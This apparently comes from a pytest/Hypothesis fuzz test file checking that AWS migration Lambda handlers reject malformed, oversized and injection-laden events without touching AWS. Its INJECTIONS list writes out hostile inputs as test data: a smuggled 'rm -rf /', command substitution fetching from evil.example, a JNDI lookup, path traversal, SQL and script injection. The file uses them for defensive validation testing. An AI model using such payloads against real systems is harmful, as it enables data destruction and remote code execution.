"""Fuzzing the three functions with malformed, oversized, wrong-typed and injection-laden input.

Each hostile event is one valid event with one field made hostile, so every example must be rejected:
with a clear reason, logged (the event functions' rejections) or reported as a batch item failure, which
SQS redelivers and then dead-letters (the jobs queue's place for what cannot be read). Nothing reaches
AWS, no job is made, and the good records of a batch are never failed with the bad ones.
"""
from __future__ import annotations

import json
import re
import uuid

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from automation.sandbox import SOURCE_ACCOUNT
from automation.wave import Wave
from tests.property.conftest import new_instance, operator_event

MEGABYTE = "7" * 2**20  # digits: only its length makes it wrong where an account ID or a version is expected
REASON_LIMIT = 600  # a rejection's reason (and so its log line) stays readable whatever the input's size

# What an attacker puts where an ID goes: shell, JSON, ARN and wildcard injection, look-alike digits,
# a trailing newline (which `$` lets through), nulls and control characters.
INJECTIONS = [
    "111111111111; rm -rf /", "$(curl http://evil.example)", "`id`", '111111111111", "all": "true',
    "111111111111\n", "111111111111\x00", " 111111111111", "１１１１１１１１１１１１", "arn:aws:iam::999999999999:root",
    "*", "all", "ALL", "", "\u202e111111111111", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
    "i-0123456789abcdef0\n", "i-0123456789ABCDEF0", "i-*", "ami-0123456789abcdef0' OR '1'='1", "<script>",
    "999999999999", "000000000000", "11111111111", "1111111111111", MEGABYTE,
]
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=40),
                    st.sampled_from(INJECTIONS))
hostile = st.one_of(scalars, st.lists(scalars, max_size=3), st.dictionaries(st.text(max_size=8), scalars, max_size=3))

VALID_INSTANCE = "i-0123456789abcdef0"  # never launched: a job for it would show that a hostile event got through
ALLOWED_TARGET = {"accountId": "222222222222", "region": "us-east-1"}
OUTSIDE_ORG = "arn:aws:organizations::999999999999:organization/o-abcdefghij"
OUTSIDE_OU = "arn:aws:organizations::999999999999:ou/o-abcdefghij/ou-ab12-cdefghij"


def aws_instance_id(value) -> bool:
    return isinstance(value, str) and re.fullmatch(r"i-([0-9a-f]{8}|[0-9a-f]{17})", value, re.ASCII) is not None


def not_(*valid):
    return hostile.filter(lambda v: v not in valid)


# (field, hostile value) pairs; each makes an otherwise valid operator event invalid
hostile_operator_fields = st.one_of(
    st.tuples(st.just("account"), not_(SOURCE_ACCOUNT)),
    st.tuples(st.just("region"), st.one_of(st.just("eu-west-1"), not_("us-east-1"))),
    st.tuples(st.just("detail-type"), not_("Distribute Instances")),
    st.tuples(st.just("detail"), hostile.filter(lambda v: not isinstance(v, dict))),
    st.tuples(st.just("detail.instanceIds"), hostile.filter(
        lambda v: not (isinstance(v, list) and v and all(aws_instance_id(i) for i in v)))),
    st.tuples(st.just("detail.instanceIds"), st.just([f"i-{n:017x}" for n in range(501)])),
    st.tuples(st.just("detail.wave"), hostile.filter(
        lambda v: not (isinstance(v, str) and re.fullmatch(r"[A-Za-z0-9._:-]{1,64}", v, re.ASCII)))),
    st.tuples(st.just("detail.distribution"), hostile.filter(lambda v: v is not None and not isinstance(v, dict))),
    st.tuples(st.just("detail.distribution.targets"), hostile),
    st.tuples(st.just("detail.distribution.targets.0.accountId"), not_("222222222222")),
    st.tuples(st.just("detail.distribution.targets.0.region"), not_("us-east-1")),
    st.tuples(st.just("detail.distribution.targets.0.copy"), hostile.filter(lambda v: not isinstance(v, bool))),
    # share only, on a stage that cleans up: the target would lose the AMI at cleanup and have no copy
    st.tuples(st.just("detail.distribution.targets.0.copy"), st.just(False)),
    st.tuples(st.just("detail.distribution.organizationArns"), st.one_of(
        st.just([OUTSIDE_ORG]), st.just(["all"]), hostile.filter(lambda v: v not in ([], None, "", {}, 0, False)))),
    st.tuples(st.just("detail.distribution.organizationalUnitArns"), st.one_of(
        st.just([OUTSIDE_OU]), hostile.filter(lambda v: v not in ([], None, "", {}, 0, False)))),
)

LAUNCH_SERVER = "arn:aws:mgn:us-east-1:111111111111:source-server/s-0123456789abcdef0"
hostile_launch_fields = st.one_of(
    st.tuples(st.just("account"), not_(SOURCE_ACCOUNT)),
    st.tuples(st.just("resources"), hostile.filter(lambda v: v != [LAUNCH_SERVER])),
    st.tuples(st.just("resources.0"), st.sampled_from([
        LAUNCH_SERVER + "\n", LAUNCH_SERVER.replace("111111111111", "999999999999"),
        LAUNCH_SERVER.replace("us-east-1", "eu-west-1"), LAUNCH_SERVER.replace("s-0", "s-*"), MEGABYTE])),
    st.tuples(st.just("detail.state"), not_("CUTOVER_LAUNCH_SUCCEEDED", "TEST_LAUNCH_SUCCEEDED",
                                            "CUTOVER_LAUNCH_FAILED", "TEST_LAUNCH_FAILED")),
    st.tuples(st.just("detail.job-id"), st.one_of(hostile, st.just("mgnjob-0123456789abcdef0\n"))),
)


def set_path(event: dict, path: str, value) -> dict:
    *parents, last = path.split(".")
    node = event
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node[key]
    node[int(last) if isinstance(node, list) else last] = value
    return event


def valid_operator_event(wave: Wave) -> dict:
    return operator_event(wave, {"instanceIds": [VALID_INSTANCE], "wave": "fuzz",
                                 "distribution": {"targets": [dict(ALLOWED_TARGET, copy=True)]}})


def valid_launch_event(wave: Wave) -> dict:
    return operator_event(wave, {"state": "CUTOVER_LAUNCH_SUCCEEDED", "job-id": "mgnjob-0123456789abcdef0"},
                          source="aws.mgn", **{"detail-type": "MGN Source Server Launch Result",
                                               "resources": [LAUNCH_SERVER]})


def writes(wave: Wave) -> int:
    calls = wave.sandbox.service_calls
    return sum(n for op, n in calls.items() if op.split(":")[0] in ("ec2", "sts") or op in (
        "dynamodb:PutItem", "sqs:SendMessageBatch"))


def assert_rejected(wave: Wave, logs, result, before_writes: int) -> None:
    assert isinstance(result, dict) and isinstance(result.get("rejected"), str), result
    reason = result["rejected"]
    assert reason and len(reason) <= REASON_LIMIT, reason[:200]
    [record] = logs.rejections("event rejected")
    assert record.levelname == "ERROR" and record.error == reason
    assert max(len(line) for line in logs.text().splitlines()) <= 2 * REASON_LIMIT
    assert writes(wave) == before_writes, "a rejected event reached AWS"


def test_the_unmutated_events_are_valid(stage_wave, shipped_logs):
    """The fuzzing below starts from events the functions accept: so each rejection is the mutation's doing."""
    event = valid_operator_event(stage_wave)
    event["detail"]["instanceIds"] = [new_instance(stage_wave)]
    result = stage_wave.runner.invoke("on_mgn_event", event)
    assert len(result["created"]) == 1 and not shipped_logs.rejections("event rejected")


SLOW_EXAMPLES = settings(max_examples=150, deadline=None,
                         # the sandbox is module-scoped; the logs fixture is emptied at each example
                         suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@SLOW_EXAMPLES
@given(mutation=hostile_operator_fields)
def test_hostile_operator_events_are_rejected_and_recorded(stage_wave, shipped_logs, mutation):
    shipped_logs.clear()
    path, value = mutation
    before = writes(stage_wave)
    event = set_path(valid_operator_event(stage_wave), path, value)
    result = stage_wave.runner.invoke("on_mgn_event", event)
    assert_rejected(stage_wave, shipped_logs, result, before)


@settings(SLOW_EXAMPLES, max_examples=60)
@given(mutation=hostile_launch_fields)
def test_hostile_launch_results_are_rejected_and_recorded(stage_wave, shipped_logs, mutation):
    shipped_logs.clear()
    path, value = mutation
    before = writes(stage_wave)
    result = stage_wave.runner.invoke("on_mgn_event", set_path(valid_launch_event(stage_wave), path, value))
    assert_rejected(stage_wave, shipped_logs, result, before)


def test_a_launch_result_naming_a_job_mgn_does_not_know_is_rejected(stage_wave, shipped_logs):
    """Well formed, but MGN has no such job: retrying cannot help, so it is rejected, not raised."""
    before = writes(stage_wave)
    result = stage_wave.runner.invoke("on_mgn_event", valid_launch_event(stage_wave))
    assert_rejected(stage_wave, shipped_logs, result, before)
    assert "mgnjob-0123456789abcdef0" in result["rejected"]


hostile_ami_fields = st.one_of(
    st.tuples(st.just("detail"), hostile.filter(lambda v: not isinstance(v, dict))),
    st.tuples(st.just("detail-type"), not_("EC2 AMI State Change")),
    st.tuples(st.just("detail.ImageId"), st.one_of(hostile, st.just("ami-0123456789abcdef0\n"))),
    st.tuples(st.just("detail.State"), hostile.filter(lambda v: not (isinstance(v, str) and re.fullmatch("[a-z]{1,32}", v)))),
    st.tuples(st.just("account"), hostile.filter(lambda v: not (isinstance(v, str) and re.fullmatch(r"[0-9]{12}", v)))),
)


@settings(SLOW_EXAMPLES, max_examples=60)
@given(mutation=hostile_ami_fields)
def test_hostile_ami_events_are_rejected_and_recorded(stage_wave, shipped_logs, mutation):
    shipped_logs.clear()
    path, value = mutation
    event = operator_event(stage_wave, {"ImageId": "ami-0123456789abcdef0", "State": "available"},
                           source="aws.ec2", **{"detail-type": "EC2 AMI State Change"})
    before = writes(stage_wave)
    result = stage_wave.runner.invoke("on_ami_event", set_path(event, path, value))
    assert_rejected(stage_wave, shipped_logs, result, before)


# --- advance_jobs: bad records mixed into a batch of good ones ---------------------------------------
@pytest.fixture(scope="module")
def done_job(stage_wave) -> dict:
    """A finished job: its messages are well formed and handled (dropped as done) without touching AWS."""
    instance = new_instance(stage_wave)
    stage_wave.runner.invoke("on_mgn_event", operator_event(stage_wave, {"instanceIds": [instance], "wave": "good"}))
    stage_wave.run()
    [job] = [j for j in stage_wave.jobs() if j["instance_id"] == instance]
    assert job["status"] == "DONE"
    return job


json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
    st.text(max_size=6), inner, max_size=3), max_leaves=8)
good_fields = {"jobId": "i-0123456789abcdef0-0123456789ab", "version": 1, "token": "ab12"}
bad_bodies = st.one_of(
    st.text(max_size=60).filter(lambda s: not s.strip().startswith("{")),  # not JSON, or not an object
    json_values.map(json.dumps).filter(lambda s: not s.startswith("{")),
    st.just("[" * 100_000), st.just('{"jobId": ' * 50_000),  # nesting past the JSON parser's recursion limit
    st.just('{"version": ' + "9" * 5000 + "}"),  # past Python's int digit limit
    st.just(json.dumps({"jobId": MEGABYTE, "version": 1, "token": "ab"})),
    st.sampled_from(sorted(good_fields)).flatmap(lambda key: st.tuples(st.just(key), hostile)).filter(
        lambda kv: not (kv[0] == "version" and type(kv[1]) is int and kv[1] >= 1)
        and not (kv[0] == "token" and isinstance(kv[1], str) and re.fullmatch(r"[0-9a-f]{1,64}", kv[1]))
        and not (kv[0] == "jobId" and isinstance(kv[1], str) and re.fullmatch(r"[A-Za-z0-9._:-]{1,128}", kv[1], re.ASCII))
    ).map(lambda kv: json.dumps({**good_fields, kv[0]: kv[1]})),
)


def record(wave: Wave, body: str) -> dict:
    message_id = str(uuid.uuid4())
    return {"messageId": message_id, "receiptHandle": f"handle-{message_id}", "body": body,
            "attributes": {"ApproximateReceiveCount": "1"}, "messageAttributes": {}, "md5OfBody": "",
            "eventSource": "aws:sqs", "eventSourceARN": wave.stage.env["JOBS_QUEUE_ARN"], "awsRegion": "us-east-1"}


@settings(SLOW_EXAMPLES, max_examples=80)
@given(bodies=st.lists(bad_bodies, min_size=1, max_size=4), good=st.integers(1, 4), data=st.data())
def test_bad_records_fail_alone_and_are_recorded(stage_wave, done_job, shipped_logs, bodies, good, data):
    shipped_logs.clear()
    good_bodies = [json.dumps({"jobId": done_job["job_id"], "version": v, "token": done_job["token"]})
                   for v in range(done_job["version"] - good + 1, done_job["version"] + 1)]
    records = data.draw(st.permutations([record(stage_wave, b) for b in bodies + good_bodies]))
    bad = {r["messageId"] for r in records if r["body"] in bodies}
    before = writes(stage_wave)
    result = stage_wave.runner.invoke("advance_jobs", {"Records": records})
    # the bad ones go back to SQS (and after maxReceiveCount to the DLQ); the good ones are done with
    assert {f["itemIdentifier"] for f in result["batchItemFailures"]} == bad
    logged = {r.message_id: r.error for r in shipped_logs.rejections("malformed job message")}
    assert set(logged) == bad and all(0 < len(reason) <= REASON_LIMIT for reason in logged.values())
    assert writes(stage_wave) == before
